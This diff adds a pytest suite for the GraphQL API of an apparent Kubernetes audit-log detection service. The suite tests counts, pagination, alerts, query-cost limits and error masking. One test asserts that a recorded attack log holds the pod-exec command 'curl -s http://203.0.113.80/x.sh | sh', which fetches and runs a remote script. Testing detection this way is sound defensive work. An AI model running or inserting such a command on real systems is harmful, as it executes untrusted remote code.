@@ -1,0 +1,236 @@
+"""GraphQL: the contract's names, its limits, and what an error may tell."""
+
+import asyncio
+import gzip
+import json
+from pathlib import Path
+
+import pytest
+
+from graphsvc.api.context import Context
+from graphsvc.api.limits import Limits
+from graphsvc.api.schema import build_schema
+from graphsvc.detection.definition import load_detections
+from graphsvc.detection.engine import Engine
+from graphsvc.graph.alerts import AlertReader
+from graphsvc.graph.detection_states import load_states
+from graphsvc.graph.reader import Reader
+from graphsvc.ingest.archive import Archive, read_record
+from graphsvc.ingest.record import read_records
+from tests.builders import a_pipeline
+from tests.conftest import empty
+
+LOG = Path(__file__).parents[2] / "demo" / "modern.log.gz"
+
+
+@pytest.fixture(scope="module")
+def ask(session_store, tmp_path_factory):
+    """Ask a question of the recorded cluster."""
+    empty(session_store)
+    folder = tmp_path_factory.mktemp("archive")
+    archive = Archive(folder)
+    with gzip.open(LOG) as stream:
+        a_pipeline(session_store, archive=archive).ingest(read_records(stream), cluster="rec", name="log")
+    archive.close()
+    reader, detections = Reader(session_store), load_detections()
+    Engine(session_store, reader, detections).run_waiting()
+    context = Context(
+        reader=reader,
+        alerts=AlertReader(session_store, reader),
+        detections=detections,
+        states=lambda: load_states(session_store),
+        noise_titles={},
+        raw_event=lambda place: json.loads(read_record(folder, place)),
+    )
+
+    def question(query, schema=None, **variables):
+        run = (schema or build_schema()).execute(query, variable_values=variables, context_value=context)
+        return asyncio.run(run)
+
+    return question
+
+
+def data(answer):
+    assert answer.errors is None, answer.errors
+    return answer.data
+
+
+POLYGRAPH = """
+query ($search: String! = "", $top: Int! = 15, $group: Boolean! = true) {
+  polygraph(search: $search, top: $top, group: $group) {
+    calls errors truncated
+    columns { name key total absent nodes { id name calls errors members commands expandable alerts firstSeen } }
+    hops { source target calls errors }
+    paths { id cluster user action status calls }
+  }
+}"""
+
+
+@pytest.mark.parametrize(("top", "group"), [(0, False), (15, True), (5, False), (1, True)])
+@pytest.mark.parametrize("search", ["", "exec", "amira", "-pods"])
+def test_counts_add_up_column_by_column(ask, search, top, group):
+    found = data(ask(POLYGRAPH, search=search, top=top, group=group, schema=build_schema(Limits(cost=10**9))))[
+        "polygraph"
+    ]
+    columns = found["columns"]
+    assert [c["name"] for c in columns] == [
+        "Source IP", "Group", "AWS user", "Kubernetes user", "Impersonated user", "Resource", "Action", "Status",
+    ]  # fmt: skip
+    ids = {n["id"]: number for number, c in enumerate(columns) for n in c["nodes"]}
+    for column in columns:
+        assert sum(n["calls"] for n in column["nodes"]) + column["absent"] == found["calls"]
+    for border in range(7):
+        crossing = [h for h in found["hops"] if ids[h["source"]] <= border < ids[h["target"]]]
+        assert sum(h["calls"] for h in crossing) == found["calls"]
+    assert sum(p["calls"] for p in found["paths"]) == found["calls"]
+
+
+def test_the_complete_graph_has_no_groups(ask):
+    found = data(ask(POLYGRAPH, top=0, group=False))["polygraph"]
+    assert not any(n["expandable"] for c in found["columns"] for n in c["nodes"])
+    assert all(len(c["nodes"]) == c["total"] for c in found["columns"])
+
+
+def test_exec_shows_its_commands_and_groups_their_members(ask):
+    found = data(ask(POLYGRAPH, search="exec"))["polygraph"]
+    nodes = {n["id"]: n for c in found["columns"] for n in c["nodes"]}
+    assert any("curl -s http://203.0.113.80/x.sh | sh" in line for line in nodes["action:exec"]["commands"])
+    assert nodes["status:101 Switching Protocols"]["commands"] == nodes["action:exec"]["commands"]
+    assert nodes["group:dev, orders"]["members"] == ["dev", "orders"]
+
+
+CALLS = """
+query ($search: String! = "", $first: Int! = 100, $after: String, $errorsOnly: Boolean! = false) {
+  apiCalls(search: $search, first: $first, after: $after, errorsOnly: $errorsOnly) {
+    edges { cursor node { id time eventName action resource subresource code status command user alerts { code } } }
+    pageInfo { hasNextPage endCursor } searchedBackTo
+  }
+}"""
+
+
+def test_the_seeds_walk_through_the_table(ask):
+    rows = [e["node"] for e in data(ask(CALLS, search="exec -role"))["apiCalls"]["edges"]]
+    execs = [r for r in rows if r["subresource"] == "exec"]
+    assert len(execs) == 9
+    assert {(r["eventName"], r["resource"], r["code"]) for r in execs} == {("CreatePods", "pods", 101)}
+    assert all(r["command"] for r in execs)
+    roles = [e["node"]["eventName"] for e in data(ask(CALLS, search="exec role"))["apiCalls"]["edges"]]
+    assert any(name.startswith("CreateClusterroles_WithPodExec") for name in roles)
+
+
+def test_pages_join_without_gap_or_overlap(ask):
+    seen, after = [], None
+    while True:
+        page = data(ask(CALLS, search="ben", first=37, after=after))["apiCalls"]
+        seen += [e["node"]["id"] for e in page["edges"]]
+        after = page["pageInfo"]["endCursor"]
+        if not page["pageInfo"]["hasNextPage"]:
+            break
+    assert len(seen) == len(set(seen)) == data(ask(POLYGRAPH, search="ben"))["polygraph"]["calls"]
+
+
+def test_error_events_are_the_calls_that_failed(ask):
+    rows = data(ask(CALLS, errorsOnly=True, first=200))["apiCalls"]["edges"]
+    assert rows
+    assert all(r["node"]["code"] >= 400 for r in rows)
+
+
+def test_a_call_has_its_whole_event(ask):
+    id_ = data(ask(CALLS, search="exec -role curl"))["apiCalls"]["edges"][0]["node"]["id"]
+    found = data(ask("query ($id: ID!) { call(id: $id) { auditId event alerts { code } } }", id=id_))["call"]
+    assert found["event"]["auditID"] == found["auditId"]
+    assert "EX-01" in {a["code"] for a in found["alerts"]}
+    assert data(ask('{ call(id: "nope") { id } }'))["call"] is None
+
+
+def test_alerts_and_their_evidence(ask):
+    found = data(
+        ask("{ alerts(severity: [CRITICAL]) { edges { node { id code who status } } pageInfo { hasNextPage } } }")
+    )["alerts"]
+    assert {e["node"]["code"] for e in found["edges"]} == {"SE-03"}
+    id_ = found["edges"][0]["node"]["id"]
+    query = "query ($id: ID!) { alert(id: $id) { why triage usual occurrences pathIds calls(first: 5) { id action } } }"
+    alert = data(ask(query, id=id_))["alert"]
+    assert alert["calls"][0]["action"] == "ListSecrets"
+    assert alert["pathIds"]
+    assert alert["why"]
+
+
+def test_alert_pages_join(ask):
+    query = """query ($after: String) { alerts(first: 7, after: $after) {
+      edges { cursor node { id } } pageInfo { hasNextPage endCursor } } }"""
+    seen, after = [], None
+    while True:
+        page = data(ask(query, after=after))["alerts"]
+        seen += [e["node"]["id"] for e in page["edges"]]
+        after = page["pageInfo"]["endCursor"]
+        if not page["pageInfo"]["hasNextPage"]:
+            break
+    everything = data(ask("{ alerts(first: 200) { edges { node { id } } } }"))["alerts"]["edges"]
+    assert seen == [e["node"]["id"] for e in everything]
+
+
+def test_detections_clusters_and_noise(ask):
+    found = data(
+        ask("{ detections(kind: [ANOMALY]) { code slug state alerts } clusters { name calls } noise { rule calls } }")
+    )
+    assert [d["code"] for d in found["detections"]] == ["OR-05", "RB-05", "WL-15", "WL-28"]
+    assert {d["state"] for d in found["detections"]} == {"ok"}
+    assert found["clusters"] == [{"name": "rec", "calls": 7666}]
+
+
+def codes(answer):
+    return {(e.extensions or {}).get("code") for e in answer.errors}
+
+
+@pytest.mark.parametrize(
+    ("query", "code"),
+    [
+        ('{ polygraph(search: "(a") { calls } }', "BAD_SEARCH"),
+        ("{ apiCalls(first: 50000) { edges { cursor } } }", "TOO_COSTLY"),
+        ("{ apiCalls(first: 300) { edges { cursor } } }", "BAD_INPUT"),
+        ('{ apiCalls(after: "nonsense") { edges { cursor } } }', "BAD_CURSOR"),
+        ('{ alerts(after: "nonsense") { edges { cursor } } }', "BAD_CURSOR"),
+        ("{ nothing }", "BAD_QUERY"),
+        ("{ " + " ".join(f"a{n}: clusters {{ name }}" for n in range(20)) + " }", "BAD_QUERY"),
+        ("{ " + "clusters { name } " * 400 + "}", "BAD_QUERY"),
+    ],
+)
+def test_what_is_refused_has_a_code(ask, query, code):
+    assert codes(ask(query)) == {code}
+
+
+def test_depth_is_limited(ask):
+    answer = ask("{ alerts { edges { node { id } } } }", schema=build_schema(Limits(depth=2)))
+    assert codes(answer) == {"BAD_QUERY"}
+
+
+def test_costly_through_fragments_too(ask):
+    query = "{ ...f } fragment f on Query { apiCalls(first: 200) { edges { node { id alerts { id code title } } } } }"
+    assert codes(ask(query, schema=build_schema(Limits(cost=1_000)))) == {"TOO_COSTLY"}
+
+
+def test_a_broken_search_tells_where(ask):
+    (error,) = ask('{ polygraph(search: "a (b") { calls } }').errors
+    assert error.extensions == {"code": "BAD_SEARCH", "position": 2}
+
+
+def test_what_goes_wrong_inside_is_masked(ask, monkeypatch):
+    def fail(*_):
+        raise RuntimeError("bolt://user:password@10.0.0.1")
+
+    monkeypatch.setattr(Reader, "clusters", fail)
+    (error,) = ask("{ clusters { name } }").errors
+    assert "password" not in str(error)
+    assert error.extensions["code"] == "INTERNAL"
+
+
+def test_everything_is_described():
+    missing = [
+        f"{name}.{field}"
+        for name, kind in build_schema()._schema.type_map.items()
+        if not name.startswith("__") and hasattr(kind, "fields")
+        for field, value in kind.fields.items()
+        if not value.description
+    ]
+    assert missing == []
